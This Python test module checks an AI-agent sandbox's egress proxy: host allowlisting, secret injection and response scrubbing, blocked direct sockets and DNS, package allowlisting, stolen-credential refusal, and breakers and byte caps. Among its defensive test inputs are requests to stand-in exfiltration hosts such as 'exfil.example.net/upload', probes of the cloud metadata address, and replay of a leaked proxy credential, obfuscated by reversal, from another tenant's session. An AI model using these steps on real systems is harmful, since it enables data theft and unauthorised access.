"""Allowlisted turns end to end, through dispatch on the local stack as `sandboxctl local up` starts
it: the egress proxy, a VPC session that reaches nothing but it, the session's credential, the
tenant's secret added at the egress, the local package index, the breakers and the egress cap.

An allowed name (`api.partner.test`) is a loopback HTTPS server of this module with a CA of its
own, reached through the stack's test routes (SANDBOX_EGRESS_TEST_ROUTES / SANDBOX_EGRESS_TEST_CA).
The server echoes the bare credential it was sent, so that only the proxy's response scrubbing
(not the in-session redactor, which knows shapes like `Bearer ...`) keeps it from the session.
One stack for the module; the tests that change the policy, the breakers or the cap come last and
put back what they changed.
"""

from __future__ import annotations

import hashlib
import json
import secrets
import ssl
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from sandbox_common import naming as n

from infra.local.certs import make_ca, make_leaf
from infra.local.state import LocalState
from tests.support.local_stack import SANDBOXCTL, ctl, running_stack, state_of

HOST = "api.partner.test"
SECRET_NAME = "crm-token"
POLICY_WAIT_SECONDS = 60  # a changed policy, cap or tenant reaches the egress within this (≤ 30 s cache)


# --- the outside world: an HTTPS server the proxy reaches through a test route ---------------------
class Upstream:
    def __init__(self, directory: Path) -> None:
        ca = make_ca("allowlisted-turn test CA")
        leaf = make_leaf(ca, [HOST])
        self.ca_file = directory / "upstream-ca.pem"
        self.ca_file.write_bytes(ca.cert_pem)
        (directory / "upstream.pem").write_bytes(leaf.cert_pem + leaf.key_pem)
        self.requests: list[dict[str, Any]] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                pass

            def do_GET(self) -> None:  # noqa: N802
                auth = self.headers.get("Authorization") or ""
                seen.append({"path": self.path, "authorization": auth, "at": time.time()})
                # the bare credential, as a careless API would echo it back
                body = json.dumps({"hello": "partner", "echo": auth.split(" ")[-1]}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(str(directory / "upstream.pem"))
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])

    def seen(self, path: str) -> list[dict[str, Any]]:
        return [r for r in self.requests if r["path"] == path]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def upstream(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Upstream]:
    server = Upstream(tmp_path_factory.mktemp("upstream"))
    yield server
    server.close()


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory, upstream: Upstream) -> Iterator[dict[str, str]]:
    with running_stack(
        tmp_path_factory.mktemp("allowlist-stack"),
        **{
            n.ENV_EGRESS_TEST_ROUTES: f"{HOST}=127.0.0.1:{upstream.port}",
            n.ENV_EGRESS_TEST_CA: str(upstream.ca_file),
        },
    ) as running:
        yield running


class Local:
    """The running stack as the tests use it: dispatch, the tenant's secret and policy, the rows."""

    def __init__(self, state: LocalState, env: dict[str, str]) -> None:
        self.state = state
        self.env = env
        self.resources = state.resources
        self.lambda_client = state.client("lambda")
        self.ddb = state.client("dynamodb")
        self.secret = "crm-" + secrets.token_hex(20)

    def dispatch(self, event: dict[str, Any]) -> dict[str, Any]:
        out = self.lambda_client.invoke(
            FunctionName=self.resources.functions[n.DISPATCH], Payload=json.dumps(event).encode()
        )
        return dict(json.loads(out["Payload"].read()))

    def put_secret(self, tenant_id: str, name: str, value: str) -> None:
        """`sandboxctl secrets put --tenant T NAME`, the value on its standard input."""
        out = subprocess.run(
            [SANDBOXCTL, "secrets", "put", "--tenant", tenant_id, name],
            input=value,
            env=self.env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert out.returncode == 0, out.stderr

    def set_policy(self, tenant_id: str, *args: str) -> None:
        """`sandboxctl egress set --tenant T --environment default-allowlist ARGS` (no --allow: an
        empty list)."""
        out = ctl(
            self.env, "egress", "set", "--tenant", tenant_id, "--environment", "default-allowlist", *args
        )
        assert out.returncode == 0, out.stderr

    def row(self, invocation_id: str) -> dict[str, Any]:
        from sandbox_common.audit import from_item

        item = self.ddb.get_item(
            TableName=self.resources.tables[n.INVOCATIONS.logical],
            Key={"invocation_id": {"S": invocation_id}},
            ConsistentRead=True,
        ).get("Item")
        assert item is not None, invocation_id
        return from_item(item)

    def egress_item(self, session_id: str, item: str) -> dict[str, Any]:
        found = self.ddb.get_item(
            TableName=self.resources.tables[n.EGRESS.logical],
            Key=n.EGRESS.key(session_id, item),
            ConsistentRead=True,
        )
        return dict(found.get("Item") or {})


ACME_POLICY = (
    *("--allow", HOST),
    *("--credential", f"{HOST}=Authorization:Bearer {{secret:{SECRET_NAME}}}"),
    *("--packages", "sandbox-hello"),
)


@pytest.fixture(scope="module")
def local(env: dict[str, str]) -> Local:
    stack = Local(state_of(env), env)
    assert stack.state.data.get("egress"), "the stack runs without its egress proxy (make egress-runtime)"
    stack.put_secret("acme", SECRET_NAME, stack.secret)
    stack.set_policy("acme", *ACME_POLICY)
    return stack


class Turn:
    """One agent turn of template `allowlisted`."""

    def __init__(self, local: Local, tenant_id: str = "acme") -> None:
        self.local = local
        self.tenant_id = tenant_id
        self.turn_id = "turn-" + secrets.token_hex(6)
        self.token = secrets.token_urlsafe(32)
        self.calls = 0
        begun = self.local.dispatch(self._event("begin_turn"))
        assert begun["sandbox"]["status"] == "ready", begun

    def _event(self, action: str, **fields: Any) -> dict[str, Any]:
        event = {
            "action": action,
            "tenant_id": self.tenant_id,
            "turn_id": self.turn_id,
            "turn_token": self.token,
            "agent_id": "agent-7",
            "template_id": "allowlisted",
        }
        if action == "end_turn":
            event = {k: event[k] for k in ("action", "tenant_id", "turn_id", "turn_token")}
        return {**event, **fields}

    def run(self, code: str, language: str = "python") -> dict[str, Any]:
        self.calls += 1
        return self.local.dispatch(
            self._event("execute_code", call_id=f"{self.turn_id}-{self.calls}", code=code, language=language)
        )

    def end(self) -> dict[str, Any]:
        return self.local.dispatch(self._event("end_turn"))


def _fetch(url: str, *, proxy: str | None = None) -> str:
    """Session code: GET `url` (through `proxy` instead of the session's own, if given); prints one
    JSON line {status, body}."""
    opener = (
        f"urllib.request.build_opener(urllib.request.ProxyHandler({{'https': {proxy!r}}}))"
        if proxy
        else "urllib.request.build_opener()"
    )
    return (
        "import json, urllib.request, urllib.error\n"
        f"opener = {opener}\n"
        "try:\n"
        f"    with opener.open({url!r}, timeout=30) as r:\n"
        "        out = {'status': r.status, 'body': r.read().decode()}\n"
        "except urllib.error.HTTPError as e:\n"
        "    out = {'status': e.code, 'body': e.read().decode(errors='replace')[:300]}\n"
        "except Exception as e:\n"
        "    out = {'status': None, 'body': type(e).__name__ + ': ' + str(e)[:300]}\n"
        "print(json.dumps(out))\n"
    )


def _json_line(answer: dict[str, Any]) -> dict[str, Any]:
    assert answer.get("ok") is True, answer
    return dict(json.loads(answer["stdout"].strip().splitlines()[-1]))


def _wait(predicate: Callable[[], bool], timeout: float, interval: float = 0.2) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(interval)
    return predicate()


# --- the session's way out ------------------------------------------------------------------------
def test_an_allowed_host_answers_with_the_credential_added_and_the_session_never_sees_the_secret(
    local: Local, upstream: Upstream
) -> None:
    # Given an allowlisted turn of acme, whose policy adds its secret to requests to HOST
    turn = Turn(local)
    digest = hashlib.sha256(local.secret.encode()).hexdigest()
    # When its code calls HOST, then looks for the secret in what it sees (by hash: the secret is
    # never sent into the session, not even by this test)
    first = turn.run(_fetch(f"https://{HOST}/hello"))
    fetched = _json_line(first)
    look = turn.run(
        # one file at a time, in pieces that overlap by more than a token: the session's memory
        # limit holds however large its files are
        "import hashlib, json, os, re\n"
        f"digest = {digest!r}\n"
        "def has(text):\n"
        "    return any(hashlib.sha256(m.group().encode()).hexdigest() == digest\n"
        "               for m in re.finditer(r'[A-Za-z0-9_.-]+', text))\n"
        "def file_has(path):\n"
        "    with open(path, errors='replace') as f:\n"
        "        tail = ''\n"
        "        while piece := f.read(1 << 20):\n"
        "            if has(tail + piece):\n"
        "                return True\n"
        "            tail = piece[-4096:]\n"
        "    return False\n"
        "seen, files = any(has(v) for v in os.environ.values()), len(os.environ)\n"
        "for root in (os.path.expanduser('~'), '/tmp'):\n"
        "    for folder, _, names in os.walk(root):\n"
        "        for name in names:\n"
        "            try:\n"
        "                seen = file_has(os.path.join(folder, name)) or seen\n"
        "                files += 1\n"
        "            except OSError:\n"
        "                pass\n"
        "print(json.dumps({'seen': seen, 'files': files}))\n"
    )
    looked = _json_line(look)
    # Then the server got the secret in the header the policy names, from the proxy
    (request,) = upstream.seen("/hello")
    assert request["authorization"] == f"Bearer {local.secret}"
    # And the session got the answer with the echoed secret scrubbed, and holds it nowhere
    assert fetched["status"] == 200 and json.loads(fetched["body"])["hello"] == "partner"
    assert local.secret not in fetched["body"]
    assert looked == {"seen": False, "files": looked["files"]} and looked["files"] > 2
    # And once the proxy has added the call's request to the session's counters (about once a
    # second), a row of the turn's calls carries it: the fetching call's when the proxy
    # wrote it before that call's end reading, else the first later call whose end reading saw it
    second = turn.run("print('next')")
    session_id = str(second["session_id"])

    def landed() -> bool:  # the request and its answer's bytes (the proxy adds them apart)
        item = local.egress_item(session_id, n.EGRESS_COUNTERS_ITEM)
        return all(
            int(item.get(name, {}).get("N", 0)) >= 1
            for name in (n.EGRESS_ATTR_ALLOWED, n.EGRESS_ATTR_BYTES_IN)
        )

    assert _wait(landed, 60)  # about a second unloaded; the bound is for a loaded machine
    third = turn.run("print('and next')")
    rows = [local.row(a["invocation_id"]) for a in (first, look, second, third)]
    assert all(r["egress"]["mode"] == "allowlist" for r in rows)
    assert sum(r["egress"]["allowed"] for r in rows) >= 1 and sum(r["egress"]["bytes_in"] for r in rows) > 0
    turn.end()


def test_a_host_not_allowed_is_refused_and_named_in_the_calls_row(local: Local) -> None:
    # Given an allowlisted turn
    turn = Turn(local)
    # When its code calls a host its policy does not list
    answer = turn.run(_fetch("https://exfil.example.net/upload?data=x"))
    refused = _json_line(answer)
    # Then the proxy refused it, and the call's own row names it among its denied hosts
    assert refused["status"] is None and "403" in refused["body"], refused
    egress = local.row(answer["invocation_id"])["egress"]
    assert egress["mode"] == "allowlist" and egress["denied"] >= 1
    assert "exfil.example.net" in egress["denied_hosts"]
    turn.end()


def test_direct_connections_and_dns_lookups_fail(local: Local) -> None:
    # Given an allowlisted turn, and the addresses it must not reach directly
    turn = Turn(local)
    proxy_host, proxy_port = local.state.data["egress"]["proxy"].rsplit(":", 1)
    moto_port = int(local.state.endpoint("moto").rsplit(":", 1)[1])
    targets = [
        ("127.0.0.1", moto_port),  # the emulated AWS
        (proxy_host, int(proxy_port)),  # the proxy itself, not through the session's relay
        ("169.254.169.254", 80),  # cloud metadata
        ("1.1.1.1", 443),  # a public address
    ]
    code = (
        "import json, socket\n"
        "seen = []\n"
        f"for host, port in {targets!r}:\n"
        "    s = socket.socket(); s.settimeout(5)\n"
        "    try:\n"
        "        s.connect((host, port)); seen.append('connected')\n"
        "    except OSError as e:\n"
        "        seen.append('blocked')\n"
        "    finally:\n"
        "        s.close()\n"
        "try:\n"
        "    socket.getaddrinfo('example.com', 443); seen.append('resolved')\n"
        "except OSError:\n"
        "    seen.append('no dns')\n"
        "print(json.dumps({'seen': seen}))\n"
    )
    # When its code connects to each directly, and looks a name up
    seen = _json_line(turn.run(code))["seen"]
    # Then nothing was reached and nothing resolved
    assert seen == ["blocked"] * len(targets) + ["no dns"], seen
    turn.end()


def test_pip_installs_a_listed_package_from_the_index_and_refuses_an_unlisted_one(local: Local) -> None:
    # Given an allowlisted turn whose policy lists sandbox-hello (the local index also has
    # sandbox-unlisted, which the policy does not list)
    turn = Turn(local)
    # When a command installs each, and code imports the one installed
    listed = turn.run("pip install --no-cache-dir sandbox-hello", language="bash")
    unlisted = turn.run("pip install --no-cache-dir sandbox-unlisted", language="bash")
    used = turn.run("import sandbox_hello\nprint(sandbox_hello.greet('agent'))")
    # Then the listed one came from the stage's index, and the other failed with pip's own error
    assert listed["ok"] is True, listed
    assert "Successfully installed sandbox-hello" in listed["stdout"], listed
    assert used["ok"] is True and used["stdout"].startswith("hello"), used
    assert unlisted["ok"] is False and unlisted["exit_code"] != 0, unlisted
    assert "No matching distribution found for sandbox-unlisted" in unlisted["stderr"], unlisted
    turn.end()


def test_a_sessions_credential_works_from_its_own_session_only_and_not_after_it_stopped(
    local: Local, upstream: Upstream
) -> None:
    # Given an acme session whose code leaks its proxy URL (reversed: the redactor knows its forms,
    # not every obfuscation), and a globex allowlisted session
    owner, other = Turn(local), Turn(local, "globex")
    leaked = _json_line(
        owner.run("import os, json\nprint(json.dumps({'r': os.environ['HTTPS_PROXY'][::-1]}))")
    )
    proxy_url = leaked["r"][::-1]
    assert proxy_url.startswith("http://") and "@" in proxy_url
    before = len(upstream.seen("/stolen"))
    # When the other tenant's session uses it (its own relay, so another source address)
    stolen = _json_line(other.run(_fetch(f"https://{HOST}/stolen", proxy=proxy_url)))
    # and its own credential asks for a host acme allows and globex does not
    own = _json_line(other.run(_fetch(f"https://{HOST}/stolen")))
    # and the owner's turn ends, after which the credential is used again
    owner.end()
    session_id = proxy_url.split("//", 1)[1].split(":", 1)[0]
    assert n.EGRESS_ATTR_REVOKED_AT in local.egress_item(session_id, n.EGRESS_CREDENTIAL_ITEM)
    after = _json_line(other.run(_fetch(f"https://{HOST}/stolen", proxy=proxy_url)))
    # Then each was refused (407 for the credential, 403 for globex's own policy), and the
    # server never saw a request
    assert stolen["status"] is None and "407" in stolen["body"], stolen
    assert own["status"] is None and "403" in own["body"], own
    assert after["status"] is None and "407" in after["body"], after
    assert len(upstream.seen("/stolen")) == before
    other.end()


def test_a_background_jobs_row_carries_what_the_job_sent(local: Local) -> None:
    # Given an allowlisted turn
    turn = Turn(local)
    # When a background job of it calls a host the policy does not list, and the agent polls it
    submitted = local.dispatch(
        turn._event(
            "execute_code",
            call_id=f"{turn.turn_id}-job",
            code=_fetch("https://job-exfil.example.net/"),
            background=True,
        )
    )
    assert submitted["status"] == "running", submitted
    poll = {k: v for k, v in turn._event("get_job", job_id=submitted["job_id"]).items() if k != "template_id"}
    answers: list[dict[str, Any]] = []
    assert _wait(
        lambda: answers.append(local.dispatch(poll)) or answers[-1].get("status") != "running", 60, 0.5
    )
    # Then the job's one row names the denied host
    assert answers[-1]["status"] == "completed", answers[-1]
    egress = local.row(submitted["invocation_id"])["egress"]
    assert egress["mode"] == "allowlist" and "job-exfil.example.net" in egress["denied_hosts"], egress
    turn.end()


# --- changes that reach the egress without a deploy (they come last: they change the stack) -------
def _poll_code(url: str, seconds: int) -> str:
    """Session code: GET `url` every 0.5 s until refused after a first success (a change made just
    before may still be reaching the egress), or `seconds` passed; prints one JSON line
    {attempts: [[time, status], ...]}."""
    return (
        "import json, time, urllib.request, urllib.error\n"
        "attempts = []\n"
        f"end = time.time() + {seconds}\n"
        "while time.time() < end:\n"
        "    try:\n"
        f"        with urllib.request.urlopen({url!r}, timeout=20) as r:\n"
        "            attempts.append([time.time(), r.status])\n"
        "    except urllib.error.HTTPError as e:\n"
        "        attempts.append([time.time(), e.code])\n"
        "    except Exception as e:\n"
        "        attempts.append([time.time(), str(e)[:80]])\n"
        "    if attempts[-1][1] != 200 and any(s == 200 for _, s in attempts):\n"
        "        break\n"
        "    time.sleep(0.5)\n"
        "print(json.dumps({'attempts': attempts}))\n"
    )


def _closes_within_the_bound(local: Local, upstream: Upstream, path: str, throw: Callable[[], None]) -> None:
    """A call that polls HOST; once the server has seen it, `throw()` (the change); the call's
    first refusal must come within POLICY_WAIT_SECONDS of it."""
    turn = Turn(local)
    answers: list[dict[str, Any]] = []
    call = threading.Thread(target=lambda: answers.append(turn.run(_poll_code(f"https://{HOST}{path}", 110))))
    call.start()
    assert _wait(lambda: bool(upstream.seen(path)), 60), "the call never reached the allowed host"
    thrown = time.time()
    throw()
    call.join(150)
    attempts = _json_line(answers[0])["attempts"]
    refused = [at for at, status in attempts if status != 200 and at > thrown]
    assert refused, attempts
    assert refused[0] - thrown <= POLICY_WAIT_SECONDS, (refused[0] - thrown, attempts)
    # egress was open before the change (an attempt's time is when its answer came back, so the
    # one the server saw before the throw may be stamped after it on a loaded machine)
    assert any(status == 200 for _, status in attempts), attempts
    turn.end()


def test_egress_set_with_an_empty_list_closes_the_allowed_host_within_60_s(
    local: Local, upstream: Upstream
) -> None:
    # Given a call polling the allowed host; When the policy is replaced by an empty list
    # Then its requests are refused within the bound, without a deploy
    try:
        _closes_within_the_bound(
            local,
            upstream,
            "/policy",
            lambda: local.set_policy("acme"),  # `egress set` with an empty list
        )
    finally:
        local.set_policy("acme", *ACME_POLICY)


@pytest.mark.parametrize("breaker", ["cap_0", "tenant_disabled"])
def test_a_cap_of_0_and_a_disabled_tenant_close_egress_within_60_s(
    local: Local, upstream: Upstream, env: dict[str, str], breaker: str
) -> None:
    throw, undo = {
        "cap_0": (
            ("caps", "set", "tenant_daily", "0", "--tenant", "acme"),
            ("caps", "set", "tenant_daily", "1000", "--tenant", "acme"),
        ),
        "tenant_disabled": (("tenant", "disable", "acme"), ("tenant", "enable", "acme")),
    }[breaker]

    def thrown() -> None:
        out = ctl(env, *throw)
        assert out.returncode == 0, out.stderr

    try:
        # Given a call polling the allowed host; When the operator throws the breaker
        # Then its requests are refused within the bound
        _closes_within_the_bound(local, upstream, f"/{breaker}", thrown)
    finally:
        assert ctl(env, *undo).returncode == 0
    # And egress opens again once the breaker is put back (a new call, admitted again)
    reopened = Turn(local)
    assert _wait(
        lambda: _json_line(reopened.run(_fetch(f"https://{HOST}/again")))["status"] == 200,
        POLICY_WAIT_SECONDS,
        1,
    )
    reopened.end()


def test_egress_daily_bytes_refuses_new_connections_at_the_cap_and_the_answer_names_it(
    local: Local, env: dict[str, str]
) -> None:
    # Given acme's egress cap lowered below what it has already sent today
    turn = Turn(local)
    # (a breaker put back by an earlier test reaches the egress within the bound: wait on it)
    assert _wait(
        lambda: _json_line(turn.run(_fetch(f"https://{HOST}/before-cap")))["status"] == 200,
        POLICY_WAIT_SECONDS,
        1,
    )
    assert ctl(env, "caps", "set", "egress_daily_bytes", "1", "--tenant", "acme").returncode == 0
    try:
        # When code keeps calling the allowed host, call after call
        answers: list[dict[str, Any]] = []

        def refused() -> bool:
            answers.append(turn.run(_poll_code(f"https://{HOST}/at-cap", 20)))
            return answers[-1].get("error") == "SandboxCapExceeded"

        # Then a call's connection is refused at the cap, and that call's answer is the cap refusal
        assert _wait(refused, POLICY_WAIT_SECONDS + 30, 1), answers[-1]
        answer = answers[-1]
        assert answer["dimension"] == "egress_daily_bytes" and answer["exit_status"] == "cap_exceeded"
        assert answer["resets_at"].endswith("T00:00:00Z") and "egress_daily_bytes" in answer["error_message"]
        row = local.row(answer["invocation_id"])
        assert (row["error"], row["failure_reason"]) == (
            "SandboxCapExceeded",
            "cap_exceeded:egress_daily_bytes",
        )
    finally:
        assert ctl(env, "caps", "set", "egress_daily_bytes", str(1 << 30), "--tenant", "acme").returncode == 0
        turn.end()
